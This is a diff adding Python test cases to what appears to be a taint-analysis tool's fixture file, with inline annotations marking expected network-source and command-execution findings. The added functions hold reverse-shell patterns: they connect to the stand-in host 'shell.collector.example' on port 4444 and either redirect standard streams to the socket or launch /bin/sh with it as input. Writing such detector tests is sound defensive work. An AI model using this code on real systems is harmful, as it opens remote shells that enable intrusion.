@@ -3,6 +3,7 @@ import asyncio
 import os
 import select
 import socket
+import subprocess
 import socketserver
 import ssl
 import telnetlib
@@ -308,3 +309,23 @@ def printed(s: socket.socket):
 
 def printed_constant(s: socket.socket):
     print("ping", file=s.makefile("w"))  #~ ok
+
+
+def connection_as_input():
+    s = socket.create_connection(("shell.collector.example", 4444))
+    os.dup2(s.fileno(), 0)  #~ source(NETWORK) fshell, sink(exec.command) fshell, finding(traced) fshell, capability(EXEC)
+    os.dup2(s.fileno(), 1)  #~ ok
+    os.dup2(s.fileno(), 2)  #~ ok
+
+
+def connection_as_inputs():
+    s = socket.create_connection(("shell.collector.example", 4444))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)  #~ source(NETWORK) fshell2, sink(exec.command) fshell2, finding(traced) fshell2
+
+
+def connection_of_a_process():
+    s = socket.create_connection(("shell.collector.example", 4444))
+    subprocess.Popen(["/bin/sh"], stdin=s.fileno())  #~ source(NETWORK) fshell3, sink(exec.command) fshell3, finding(traced) fshell3, capability(EXEC)
+    subprocess.Popen(["/bin/sh"], stdout=s.fileno())  #~ ok
+    print(s.fileno())  #~ ok
